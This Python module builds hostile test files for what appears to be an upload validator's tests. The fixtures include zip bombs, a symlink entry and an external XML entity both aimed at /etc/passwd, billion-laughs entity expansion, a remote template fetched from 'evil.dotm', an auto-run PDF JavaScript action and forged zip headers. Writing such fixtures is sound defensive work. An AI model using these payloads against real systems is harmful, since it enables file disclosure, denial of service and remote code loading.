"""The hands that spoil files: makers of the bytes that `files.spoiled` lists."""

import io
import struct
import zipfile
from collections.abc import Callable

import openpyxl

from documents.tables import GOOD, HEADS, saved, workbook
from files.packages import (
    content_types,
    docx_parts,
    paragraph,
    pdf,
    relations,
    sheet_xml,
    text_rows,
    xlsx_parts,
    zipped,
)
from fivefold.documents.sheets_out import SheetColumn, SheetSpec, WorkbookSpec, write_workbook

MIB = 1 << 20
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
TABLE = [list(HEADS), [str(cell) for cell in GOOD]]
END = b"PK\x05\x06"

OPENED = (
    ("rows", "xl/worksheets/sheet1.xml", "row"),
    ("formulas", "xl/worksheets/sheet1.xml", "f"),
    ("texts", "xl/sharedStrings.xml", "t"),
    ("strings", "xl/sharedStrings.xml", "si>"),
)


def changed(place: int, value: object) -> tuple[object, ...]:
    return (*GOOD[:place], value, *GOOD[place + 1 :])


def rows(*found: tuple[object, ...]) -> bytes:
    return workbook((HEADS, *found))


def parts(**more: bytes) -> dict[str, bytes]:
    return xlsx_parts(sheet_xml(text_rows(TABLE)), **more)


def xlsx(**more: bytes) -> bytes:
    return zipped(parts(**more))


def sheet(rows: str, before: str = "") -> bytes:
    return zipped(xlsx_parts(sheet_xml(rows, before)))


def merged(count: int, reach: str = "B{row}:C{row}") -> bytes:
    """Return a workbook with so many merged ranges below its table."""
    ranges = "".join(f'<mergeCell ref="{reach.format(row=row)}"/>' for row in range(3, 3 + count))
    body = sheet_xml(text_rows(TABLE)).replace(
        b"</sheetData>", f"</sheetData><mergeCells>{ranges}</mergeCells>".encode()
    )
    return zipped(xlsx_parts(body))


def opened_tags(part: str, tag: str) -> bytes:
    """Return a workbook one part of which opens a tag a million times and closes none."""
    body = f"<{tag} ".encode() * MIB
    return zipped(parts() | {part: body})


def edition() -> bytes:
    columns = tuple(SheetColumn(head) for head in HEADS)
    rows = ((*GOOD[:3], None, *GOOD[4:]),)
    return write_workbook([SheetSpec("填报表", "题", columns, rows)], WorkbookSpec(meta={"edition": "1999"}))


def bomb() -> bytes:
    return xlsx(xl__media__image1=bytes(40 * MIB))


def huge() -> bytes:
    return xlsx(**{f"xl__media__i{i}": bytes(10 * MIB) for i in range(13)})


def many() -> bytes:
    return zipped(parts() | {f"xl/media/{i}.bin": b"" for i in range(2100)}, method=zipfile.ZIP_STORED)


def link() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as package:
        for name, body in parts().items():
            package.writestr(name, body)
        entry = zipfile.ZipInfo("xl/media/passwd")
        entry.create_system, entry.external_attr = 3, 0o120777 << 16
        package.writestr(entry, "/etc/passwd")
    return out.getvalue()


def twice() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as package:
        for name, body in (*parts().items(), ("XL/Workbook.xml", b"<a/>")):
            package.writestr(name, body)
    return out.getvalue()


def local(change: Callable[[bytearray, int], None]) -> Callable[[], bytes]:
    """Return a maker of a workbook whose last local header was changed."""

    def build() -> bytes:
        data = bytearray(xlsx())
        change(data, data.rfind(b"PK\x03\x04"))
        return bytes(data)

    return build


def central(change: Callable[[bytearray, int], None]) -> Callable[[], bytes]:
    """Return a maker of a workbook whose last central header was changed."""

    def build() -> bytes:
        data = bytearray(xlsx())
        change(data, data.rfind(b"PK\x01\x02"))
        return bytes(data)

    return build


def rename(data: bytearray, at: int) -> None:
    data[at + 30 : at + 32] = b"XL"


def resize(data: bytearray, at: int) -> None:
    struct.pack_into("<I", data, at + 22, 7)


def grow(data: bytearray, at: int) -> None:
    """Claim a smaller size in both headers than the data unpack to."""
    struct.pack_into("<I", data, at + 24, 10)
    struct.pack_into("<I", data, data.rfind(b"PK\x03\x04") + 22, 10)


def encrypt(data: bytearray, at: int) -> None:
    data[at + 8] |= 1


def checksum(data: bytearray, at: int) -> None:
    for place in (at + 16, data.rfind(b"PK\x03\x04") + 14):
        struct.pack_into("<I", data, place, 12345)


def overlap(data: bytearray, at: int) -> None:
    struct.pack_into("<I", data, at + 42, 0)


def hidden() -> bytes:
    """Return a workbook with a local entry that the directory does not list."""
    whole = zipped(parts())
    extra = zipped({"hidden.txt": b"hidden"})
    extra = extra[: extra.find(b"PK\x01\x02")]
    start = whole.find(b"PK\x01\x02")
    end = bytearray(whole[whole.find(END) :])
    struct.pack_into("<I", end, 16, start + len(extra))
    return whole[:start] + extra + whole[start : whole.find(END)] + bytes(end)


def zip64() -> bytes:
    """Return a workbook with a zip64 end record that contradicts the short one."""
    whole = xlsx()
    end = whole.find(END)
    count, size, start = struct.unpack_from("<HII", whole, end + 10)
    record = struct.pack("<4sQ2H2I4Q", b"PK\x06\x06", 44, 45, 45, 0, 0, count, count, size, start - 1)
    return whole[:end] + record + struct.pack("<4sIQI", b"PK\x06\x07", 0, end, 1) + whole[end:]


def macro_type() -> bytes:
    kind = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
    return zipped(parts() | {"[Content_Types].xml": content_types({"/xl/workbook.xml": kind})})


def entity() -> bytes:
    dtd = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    return zipped(xlsx_parts(dtd + b"<worksheet>&x;</worksheet>"))


def attached() -> bytes:
    names = b"/Names<</EmbeddedFiles<</Names[(a)4 0 R]>>>>"
    return pdf(names, (b"<</Type/Filespec/F(a)/EF<</F 5 0 R>>>>", b"<</Length 1>>stream\nx\nendstream"))


def laughs() -> bytes:
    levels = "".join(f'<!ENTITY a{i} "{f"&a{i - 1};" * 10}">' for i in range(1, 10))
    dtd = f'<?xml version="1.0"?><!DOCTYPE s [<!ENTITY a0 "ha">{levels}]>'
    return xlsx(xl__sharedStrings_xml=f"{dtd}<sst><si><t>&a9;</t></si></sst>".encode())


def outside(kind: str, target: str) -> bytes:
    return zipped(parts() | {"xl/worksheets/_rels/sheet1.xml.rels": relations((kind, target, "External"))})


def sparse() -> bytes:
    rows = '<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
    return sheet(rows, '<dimension ref="A1:XFD1048576"/>')


def repeated_string() -> bytes:
    """Return a workbook in which 60,000 cells share one text of 30,000 letters: 5 GB once written out."""
    text = "长" * 30_000
    strings = f"<sst><si><t>{text}</t></si></sst>".encode()
    rows = "".join(f'<row r="{i}"><c r="A{i}" t="s"><v>0</v></c></row>' for i in range(2, 60_000))
    head = '<row r="1"><c r="A1" t="inlineStr"><is><t>备注</t></is></c></row>'
    parts = xlsx_parts(sheet_xml(head + rows), xl__sharedStrings_xml=strings)
    parts["xl/_rels/workbook.xml.rels"] = relations(
        ("worksheet", "worksheets/sheet1.xml", ""), ("sharedStrings", "sharedStrings.xml", "")
    )
    return zipped(parts)


def field(*pieces: str) -> bytes:
    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    return zipped(docx_parts(f"<w:p>{runs}</w:p>"))


def template() -> bytes:
    target = "http://example.org/evil.dotm"
    parts = docx_parts(paragraph("正文"))
    parts["word/_rels/settings.xml.rels"] = relations(("attachedTemplate", target, "External"))
    return zipped(parts)


def script_pdf() -> bytes:
    return pdf(b"/OpenAction 4 0 R", (b"<</S/JavaScript/JS(app.alert(1))>>",))


def typst_pdf(text: str) -> bytes:
    import typst

    from fivefold.documents.fonts import CARRIED

    source = f'#set text(font: "Noto Serif SC")\n{text}'.encode()
    return typst.compile({"main.typ": source}, font_paths=[str(CARRIED)], ignore_system_fonts=True)


def long_text(length: int) -> str:
    """Return a text that packs badly, it repeats beyond the sight of deflate."""
    part = "".join(chr(0x4E00 + i * i * 7919 % 20_011) for i in range(40_000))
    return (part * (length // len(part) + 1))[:length]


def error() -> bytes:
    book = openpyxl.load_workbook(io.BytesIO(rows(GOOD)))
    book.active["D2"] = "#DIV/0!"
    return saved(book)
